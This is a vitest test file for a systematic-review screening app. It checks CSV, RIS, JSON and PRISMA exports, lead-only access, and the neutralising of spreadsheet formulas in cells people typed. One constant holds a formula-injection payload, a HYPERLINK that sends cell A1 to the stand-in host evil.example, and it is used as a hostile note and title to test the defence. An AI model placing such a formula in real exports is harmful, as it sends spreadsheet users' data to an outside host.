import { parse } from 'csv-parse/sync'
import { asc, eq } from 'drizzle-orm'
import { describe, expect, it } from 'vitest'
import { decisions, imports, records, recordStages, resolutions } from '../../src/db/schema.ts'
import { prismaInvariants, prismaRows, type Prisma } from '../../src/domain/prisma.ts'
import { csvLines, neutralise } from '../../src/http/csv.ts'
import { listReasons } from '../../src/queries/settings.ts'
import { Client, makeProject, makeUser, signedIn } from '../helpers/app.ts'
import { reviewTeam } from '../helpers/team.ts'
import { distinctRecords, risFile } from '../helpers/ris.ts'

const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'

async function setup() {
  const team = await reviewTeam()
  const rs = distinctRecords(4, 'Exported')
  rs[1] = { ...rs[1]!, title: '+Plus-sign title, with "quotes"' }
  await team.upload('Scopus', risFile(rs))
  await team.upload('Trials', risFile([...distinctRecords(1, 'Trial'), rs[0]!]), 'register')
  const rows = await team.db.orm.select().from(records).orderBy(asc(records.id))
  const ids = rows.map((r) => r.id)
  const vote = async (client: typeof team.a, id: number, decision: string, note = '') => {
    const res = await team.vote(client, id, decision, { note })
    expect(res.status).toBe(303)
    team.clock.now += 1000
  }
  return { ...team, rows, ids, vote }
}

/** A short history: a changed vote, an undo, a conflict resolved with a hostile note. */
async function history() {
  const s = await setup()
  const [r0, r1] = s.ids as [number, number]
  await s.vote(s.a, r0, 'include', INJECTION)
  await s.vote(s.b, r0, 'exclude', '@SUM(1+1)')
  await s.vote(s.a, r1, 'exclude')
  await s.vote(s.a, r1, 'maybe', '-2 is not a formula either')
  const undo = await s.a.post(`${s.base}/screen/undo`)
  expect(undo.status).toBe(303)
  s.clock.now += 1000
  const res = await s.leadClient.post(`${s.base}/records/${r0}/resolution`, {
    stage: 'title_abstract',
    decision: 'include',
    note: '+1 agreed after discussion',
  })
  expect(res.status).toBe(303)
  return s
}

describe('decisions.csv', () => {
  it('is a download for the lead, with every decision, withdrawal and resolution in order', async () => {
    const { leadClient, base, project, ids, rows, clock } = await history()
    const res = await leadClient.get(`${base}/export/decisions.csv`)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="decisions-project-${project.id}.csv"`
    )
    const table = parse(await res.text()) as string[][]
    expect(table[0]).toEqual([
      'type',
      'record_id',
      'title',
      'stage',
      'reviewer',
      'email',
      'decision',
      'reason',
      'note',
      'time',
    ])
    const body = table.slice(1)
    expect(body.map((r) => [r[0], Number(r[1]), r[4], r[6]])).toEqual([
      ['decision', ids[0], 'Ann Assistant', 'include'],
      ['decision', ids[0], 'Bob Second', 'exclude'],
      ['decision', ids[1], 'Ann Assistant', 'exclude'],
      ['decision', ids[1], 'Ann Assistant', 'maybe'],
      ['decision', ids[1], 'Ann Assistant', 'withdrawn'],
      ['resolution', ids[0], 'Lena Lead', 'include'],
    ])
    expect(body[0]!.slice(2, 6)).toEqual([
      rows[0]!.title,
      'title_abstract',
      'Ann Assistant',
      'ann@example.org',
    ])
    // A quoted title with a comma survives; the leading + is neutralised.
    expect(body[2]![2]).toBe(`'${rows[1]!.title}`)
    expect(body[0]![9]).toBe('2026-11-27T09:00:00.000Z')
    expect(body[5]![9]).toBe(new Date(clock.now).toISOString())
    expect(body.every((r) => /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/.test(r[9]!))).toBe(true)
  })

  it('neutralises spreadsheet formulas in every cell people typed', async () => {
    const { leadClient, base } = await history()
    const text = await (await leadClient.get(`${base}/export/decisions.csv`)).text()
    const notes = (parse(text) as string[][]).slice(1).map((r) => r[8])
    expect(notes).toEqual([
      `'${INJECTION}`,
      "'@SUM(1+1)",
      '',
      "'-2 is not a formula either",
      '',
      "'+1 agreed after discussion",
    ])
    // No cell of the file starts a formula.
    for (const row of parse(text) as string[][]) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    }
  })

  it('is for leads only', async () => {
    const { a, base } = await history()
    const res = await a.get(`${base}/export/decisions.csv`)
    expect(res.status).toBe(403)
    expect(await res.text()).not.toContain('HYPERLINK')
  })

  it('streams a large history in order, with resolutions merged in by time', async () => {
    const s = await setup()
    const t0 = s.clock.now
    await s.db.write(async (tx) => {
      const rows = Array.from({ length: 2500 }, (_, i) => ({
        projectId: s.project.id,
        recordId: s.ids[i % 4]!,
        stage: 'title_abstract' as const,
        userId: i % 2 === 0 ? s.ann.id : s.bob.id,
        decision: 'include',
        note: `vote ${i}`,
        createdAt: t0 + i,
      }))
      for (let i = 0; i < rows.length; i += 500)
        await tx.insert(decisions).values(rows.slice(i, i + 500))
      await tx.insert(resolutions).values(
        [1499.5, 2400.5].map((at) => ({
          projectId: s.project.id,
          recordId: s.ids[0]!,
          stage: 'title_abstract' as const,
          userId: s.lead.id,
          decision: 'exclude',
          note: `resolved at ${at}`,
          createdAt: Math.ceil(t0 + at),
        }))
      )
    })
    const text = await (await s.leadClient.get(`${s.base}/export/decisions.csv`)).text()
    const notes = (parse(text) as string[][]).slice(1).map((r) => r[8])
    expect(notes).toHaveLength(2502)
    // Same millisecond: the resolution follows the vote.
    expect(notes.slice(1499, 1502)).toEqual(['vote 1499', 'vote 1500', 'resolved at 1499.5'])
    expect(notes.slice(2401, 2404)).toEqual(['vote 2400', 'vote 2401', 'resolved at 2400.5'])
    expect(notes.at(-1)).toBe('vote 2499')
  })

  it('has just the header when nothing was decided', async () => {
    const s = await setup()
    const text = await (await s.leadClient.get(`${s.base}/export/decisions.csv`)).text()
    expect(text).toBe('type,record_id,title,stage,reviewer,email,decision,reason,note,time\n')
  })
})

describe('prisma.json and prisma.csv', () => {
  it('gives exactly the SPEC §2.9 keys to any member, and the counts add up', async () => {
    const { a, base } = await history()
    const res = await a.get(`${base}/prisma.json`)
    expect(res.status).toBe(200)
    const p = (await res.json()) as Prisma
    expect(Object.keys(p)).toEqual(['identification', 'screening', 'included', 'pending'])
    expect(Object.keys(p.identification)).toEqual([
      'databases',
      'registers',
      'records_identified',
      'duplicates_removed',
      'automation_removed',
      'other_removed',
    ])
    expect(Object.keys(p.screening)).toEqual([
      'records_screened',
      'records_excluded',
      'reports_sought',
      'reports_not_retrieved',
      'reports_assessed',
      'reports_excluded',
    ])
    expect(Object.keys(p.included)).toEqual(['studies', 'reports'])
    expect(Object.keys(p.pending)).toEqual(['title_abstract', 'conflicts', 'full_text'])
    expect(prismaInvariants(p)).toEqual([])
    expect(p.identification).toMatchObject({
      databases: { Scopus: 4 },
      registers: { Trials: 2 },
      records_identified: 6,
      duplicates_removed: 1,
    })
    // 5 unique records: record 1 resolved to include, the other 4 waiting.
    expect(p.screening).toMatchObject({ records_screened: 5, reports_sought: 1 })
    expect(p.pending).toEqual({ title_abstract: 4, conflicts: 0, full_text: 1 })
  })

  it('gives the same counts as a box,n CSV download', async () => {
    const { b, base, project } = await history()
    const p = (await (await b.get(`${base}/prisma.json`)).json()) as Prisma
    const res = await b.get(`${base}/prisma.csv`)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="prisma-project-${project.id}.csv"`
    )
    const table = parse(await res.text()) as string[][]
    expect(table[0]).toEqual(['box', 'n'])
    expect(table.slice(1)).toEqual(prismaRows(p).map(([box, n]) => [box, String(n)]))
    expect(table).toContainEqual(['identification.databases.Scopus', '4'])
  })
})

describe('the CSV helper', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+44 20 7946 0000', "'+44 20 7946 0000"],
    ['-3 months', "'-3 months"],
    ['@user', "'@user"],
    ['\tindented', "'\tindented"],
    ['\rreturn', "'\rreturn"],
    ['plain = fine', 'plain = fine'],
    ['', ''],
    ["'already quoted", "'already quoted"],
  ])('neutralise(%j) = %j', (cell, expected) => {
    expect(neutralise(cell)).toBe(expected)
  })

  it('quotes commas, quotes and line breaks, and leaves numbers and nulls alone', () => {
    expect(csvLines([['a,b', 'say "hi"', 'two\nlines', -1, null]])).toBe(
      '"a,b","say ""hi""","two\nlines",-1,\n'
    )
    expect(csvLines([])).toBe('')
  })
})

/**
 * Five records from two sources (the register's first is a duplicate of Scopus's second), taken
 * through the real flow: both reviewers include the first two at title/abstract, then include
 * the first and exclude the second (with a reason) at full text.
 */
async function screened() {
  const team = await reviewTeam()
  const rs = distinctRecords(3, 'Screened')
  rs[0] = { ...rs[0]!, title: INJECTION, authors: ['Okafor, Ada', '-Minus, M.'] }
  await team.upload('Scopus', risFile(rs))
  await team.upload('Trials', risFile([rs[1]!, ...distinctRecords(1, 'Trial')]), 'register')
  const ids = await team.recordIds()
  const [included, excluded] = ids as [number, number]
  const fullText = (client: typeof team.a, id: number, decision: string, reason?: number) =>
    client.post(`${team.base}/records/${id}/decisions`, {
      stage: 'full_text',
      decision,
      ...(reason === undefined ? {} : { reason: String(reason) }),
    })
  const [reason] = await listReasons(team.db.orm, team.project.id)
  for (const who of [team.a, team.b])
    for (const id of [included, excluded])
      expect((await team.vote(who, id, 'include')).status).toBe(303)
  for (const who of [team.a, team.b]) {
    expect((await fullText(who, included, 'include')).status).toBe(303)
    expect((await fullText(who, excluded, 'exclude', reason!.id)).status).toBe(303)
  }
  const stages = await team.db.orm
    .select({ id: recordStages.recordId, status: recordStages.status })
    .from(recordStages)
    .where(eq(recordStages.stage, 'full_text'))
    .orderBy(asc(recordStages.recordId))
  expect(stages).toEqual([
    { id: included, status: 'included' },
    { id: excluded, status: 'excluded' },
  ])
  const rows = await team.db.orm.select().from(records).orderBy(asc(records.id))
  return { ...team, ids, rows }
}

const TYPES = {
  csv: 'text/csv; charset=utf-8',
  ris: 'application/x-research-info-systems; charset=utf-8',
  json: 'application/json; charset=utf-8',
}
const NORMALISED = ['type', 'title', 'abstract', 'authors', 'year', 'journal', 'doi', 'keywords']
const fieldsOf = (r: Record<string, unknown>) =>
  Object.fromEntries([...NORMALISED, 'database'].map((k) => [k, r[k]]))

describe('included and record exports', () => {
  it('are downloads for the lead only; reviewers 403, outsiders 404, anonymous to sign in', async () => {
    const { app, db, leadClient, a, b, base, project } = await screened()
    await makeUser(db, 'outsider@example.org')
    const outsider = await signedIn(app, 'outsider@example.org')
    const anonymous = new Client(app)
    const FILES = 'included.csv included.ris included.json records.csv records.ris records.json'
    for (const file of [...FILES.split(' '), 'decisions.json']) {
      const res = await leadClient.get(`${base}/export/${file}`)
      expect(res.status, file).toBe(200)
      const [what, format] = file.split('.') as [string, keyof typeof TYPES]
      expect(res.headers.get('content-type')).toBe(TYPES[format])
      expect(res.headers.get('content-disposition')).toBe(
        `attachment; filename="${what}-project-${project.id}.${format}"`
      )
      expect(res.headers.get('cache-control')).toBe('no-store')
      for (const [client, status] of [
        [a, 403],
        [b, 403],
        [outsider, 404],
        [anonymous, 303],
      ] as const) {
        const refused = await client.get(`${base}/export/${file}`)
        expect(refused.status, file).toBe(status)
        expect(await refused.text()).not.toContain('Screened')
      }
    }
  })

  it('included.csv has the included record’s fields, formulas neutralised', async () => {
    const { leadClient, base, rows } = await screened()
    const table = parse(await (await leadClient.get(`${base}/export/included.csv`)).text())
    expect(table).toEqual([
      'id type title authors year journal doi abstract keywords database source import_id'.split(
        ' '
      ),
      [
        String(rows[0]!.id),
        'JOUR',
        `'${INJECTION}`,
        'Okafor, Ada; -Minus, M.',
        String(rows[0]!.year),
        'Journal of Tests',
        rows[0]!.doi,
        rows[0]!.abstract,
        '',
        '',
        'Scopus',
        String(rows[0]!.importId),
      ],
    ])
  })

  it('records.csv has every visible record with duplicate_of; records.ris the kept ones', async () => {
    const { leadClient, base, rows, ids } = await screened()
    const table = parse(await (await leadClient.get(`${base}/export/records.csv`)).text())
    expect(table[0]!.slice(-3)).toEqual(['source', 'import_id', 'duplicate_of'])
    expect(table.slice(1).map((r: string[]) => [Number(r[0]), r[10], r[12]])).toEqual([
      [ids[0], 'Scopus', ''],
      [ids[1], 'Scopus', ''],
      [ids[2], 'Scopus', ''],
      [ids[3], 'Trials', String(ids[1])],
      [ids[4], 'Trials', ''],
    ])
    for (const row of table) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    const ris = await (await leadClient.get(`${base}/export/records.ris`)).text()
    const kept = rows.filter((r) => r.duplicateOf === null).map((r) => `ID  - winnow:${r.id}`)
    expect(ris.match(/^ID {2}- .*$/gm)!.map((l) => l.trimEnd())).toEqual(kept)
    expect(ris).toMatch(/^TY {2}- JOUR\r\nID {2}- winnow:\d+\r\nTI {2}- =HYPERLINK/)
  })

  it('RIS re-imports into another project through the upload route with the same fields', async () => {
    const { leadClient, base, lead, db, jobs, rows } = await screened()
    const other = await makeProject(db, lead.id, 'Update of the review')
    for (const what of ['included', 'records']) {
      const content = await (await leadClient.get(`${base}/export/${what}.ris`)).text()
      const res = await leadClient.upload(
        `/projects/${other.id}/imports`,
        { source: `Winnow ${what}`, kind: 'database' },
        [{ name: `${what}.ris`, content }]
      )
      expect(res.status).toBe(303)
      await jobs.idle()
    }
    const again = await db.orm
      .select()
      .from(records)
      .where(eq(records.projectId, other.id))
      .orderBy(asc(records.id))
    const done = await db.orm.select().from(imports).where(eq(imports.projectId, other.id))
    expect(done.map((i) => [i.status, i.recordCount, i.warningCount])).toEqual([
      ['complete', 1, 0],
      ['complete', 4, 0],
    ])
    const kept = rows.filter((r) => r.duplicateOf === null)
    expect(again.map(fieldsOf)).toEqual([rows[0]!, ...kept].map(fieldsOf))
    expect(again[0]!.raw.slice(0, 2)).toEqual([
      ['TY', 'JOUR'],
      ['ID', `winnow:${rows[0]!.id}`],
    ])
  })

  it('streams thousands of records in id order, across chunks', async () => {
    const s = await screened()
    const template = s.rows[4]!
    await s.db.write(async (tx) => {
      const more = Array.from({ length: 2100 }, (_, i) => ({
        ...template,
        id: undefined,
        position: 100 + i,
        title: `Bulk record ${i}`,
      }))
      for (let i = 0; i < more.length; i += 300)
        await tx.insert(records).values(more.slice(i, i + 300))
    })
    const ris = await (await s.leadClient.get(`${s.base}/export/records.ris`)).text()
    const titles = ris.match(/^TI {2}- Bulk record \d+/gm)!
    expect(titles).toHaveLength(2100)
    expect(titles.at(-1)).toBe('TI  - Bulk record 2099')
    const json = JSON.parse(await (await s.leadClient.get(`${s.base}/export/records.json`)).text())
    expect(json).toHaveLength(2105)
    const ids = json.map((r: { id: number }) => r.id)
    expect(ids).toEqual([...ids].sort((x: number, y: number) => x - y))
    const csv = parse(await (await s.leadClient.get(`${s.base}/export/included.csv`)).text())
    expect(csv).toHaveLength(2)
  })

  it('decisions.json holds the same decisions as decisions.csv, without the formula guard', async () => {
    const { leadClient, base } = await history()
    const csv = parse(await (await leadClient.get(`${base}/export/decisions.csv`)).text())
    const json = (await (await leadClient.get(`${base}/export/decisions.json`)).json()) as Record<
      string,
      unknown
    >[]
    expect(json.map((d) => Object.keys(d))).toEqual(json.map(() => csv[0]))
    expect(json.map((d) => [d.record_id, d.decision, d.note])).toEqual(
      csv.slice(1).map((r: string[]) => [Number(r[1]), r[6], r[8]!.replace(/^'/, '')])
    )
    expect(json[0]!.note).toBe(INJECTION)
  })
})
